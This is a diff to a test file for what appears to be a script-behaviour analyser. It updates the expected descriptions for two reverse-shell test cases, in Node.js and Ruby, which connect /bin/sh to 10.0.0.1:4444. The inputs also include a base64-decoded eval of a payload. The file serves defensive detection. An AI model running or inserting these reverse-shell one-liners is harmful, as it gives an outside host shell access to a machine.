@@ -122,7 +122,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     "require('child_process').spawn('make', { env: { ...process.env, A: '1' } })": [],
     'new Function(atob(payload))()': ['execute javascript from unknown'],
     "const net=require('net'),cp=require('child_process');const s=net.connect(4444,'10.0.0.1');const sh=cp.spawn('/bin/sh',[]);s.pipe(sh.stdin)":
-      ['send  to 10.0.0.1:4444', 'execute sh from unknown'],
+      ['send  to 10.0.0.1:4444', 'execute sh from tcp://10.0.0.1:4444'],
     "const f='a.json';fs.existsSync(f)||fs.writeFileSync(f,'{}')": ['create a.json'],
   },
   perl: {
@@ -150,7 +150,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     ],
     'require "socket";s=TCPSocket.new("10.0.0.1",4444);exec "/bin/sh",[:in,:out,:err]=>[s,s,s]': [
       'send  to 10.0.0.1:4444',
-      'execute sh from unknown',
+      'execute sh from tcp://10.0.0.1:4444',
     ],
   },
   php: {
